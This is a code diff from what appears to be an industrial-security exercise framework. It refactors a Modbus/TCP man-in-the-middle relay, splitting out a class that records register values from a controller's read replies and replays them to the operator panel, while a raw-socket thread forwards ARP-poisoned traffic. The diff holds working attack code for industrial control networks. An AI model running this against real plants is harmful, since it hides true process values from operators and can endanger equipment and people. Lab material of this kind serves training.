@@ -15,6 +15,7 @@ from collections.abc import Iterator
 
 from linewarden.exercises.attacks.scan import REPLY, arp_frame, mac
 from linewarden.exercises.context import Context
+from linewarden.exercises.devices._modbus import MODBUS_PORT
 from linewarden.exercises.line import DEVICES
 
 ETH_P_IP = 0x0800
@@ -24,40 +25,18 @@ POISON_S = 1.0
 MODBUS_HEAD = 8  # MBAP and function code
 
 
-class Relay(threading.Thread):
-    """Takes frames that the victims send to us and passes them on; `replaying` answers reads from memory."""
+class Replay:
+    """Remembers the registers in answers to reads, and puts them in the place of later ones once `replaying`."""
 
-    def __init__(self, ctx: Context, server: str, client: str) -> None:
-        ctx.require_attack_allowed()
-        super().__init__(daemon=True)
-        self.server, self.client, self.own = server, client, mac(ctx.name)
-        self.replaying = self.ended = False
-        self.passed = self.replaced = 0
+    def __init__(self) -> None:
+        self.replaying = False
+        self.replaced = 0
         self._memory: dict[tuple[int, int], bytes] = {}
-        self._macs = {socket.inet_aton(DEVICES[name].address): mac(name) for name in (server, client)}
-        self._wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
-        self._wire.bind(("eth0", ETH_P_IP))
-        self._wire.settimeout(0.2)
 
-    def run(self) -> None:
-        """Until `ended`."""
-        while not self.ended:
-            try:
-                frame = self._wire.recv(2048)
-            except TimeoutError:
-                continue
-            source, target = frame[26:30], frame[30:34]
-            if frame[0:6] == self.own and source in self._macs and target in self._macs and frame[6:12] != self.own:
-                if frame[6:12] == self._macs[ip_of(self.server)]:
-                    frame = self._answer(frame)
-                self._wire.send(self._macs[target] + self.own + frame[12:])
-                self.passed += 1
-        self._wire.close()
-
-    def _answer(self, frame: bytes) -> bytes:
-        """Remembers the registers of a read's answer, or puts the remembered ones in their place."""
+    def answer(self, frame: bytes) -> bytes:
+        """The frame that the panel gets for one from the controller."""
         start = 14 + (frame[14] & 0x0F) * 4
-        if frame[23] != TCP or frame[start : start + 2] != struct.pack(">H", 502):
+        if frame[23] != TCP or frame[start : start + 2] != struct.pack(">H", MODBUS_PORT):
             return frame
         at = start + (frame[start + 12] >> 4) * 4
         end = 14 + int.from_bytes(frame[16:18], "big")
@@ -73,6 +52,35 @@ class Relay(threading.Thread):
         self.replaced += 1
         changed = frame[: at + MODBUS_HEAD + 1] + self._memory[key] + frame[end:]
         return with_checksum(changed, start, end)
+
+
+class Relay(threading.Thread):
+    """Takes frames that the victims send to us and passes them on; what the server answers goes through `replay`."""
+
+    def __init__(self, ctx: Context, server: str, client: str) -> None:
+        ctx.require_attack_allowed()
+        super().__init__(daemon=True)
+        self.server, self.client, self.own = server, client, mac(ctx.name)
+        self.replay, self.ended, self.passed = Replay(), False, 0
+        self._macs = {socket.inet_aton(DEVICES[name].address): mac(name) for name in (server, client)}
+        self._wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
+        self._wire.bind(("eth0", ETH_P_IP))
+        self._wire.settimeout(0.2)
+
+    def run(self) -> None:
+        """Until `ended`."""
+        while not self.ended:
+            try:
+                frame = self._wire.recv(2048)
+            except TimeoutError:
+                continue
+            source, target = frame[26:30], frame[30:34]
+            if frame[0:6] == self.own and source in self._macs and target in self._macs and frame[6:12] != self.own:
+                if frame[6:12] == self._macs[ip_of(self.server)]:
+                    frame = self.replay.answer(frame)
+                self._wire.send(self._macs[target] + self.own + frame[12:])
+                self.passed += 1
+        self._wire.close()
 
 
 def ip_of(name: str) -> bytes:
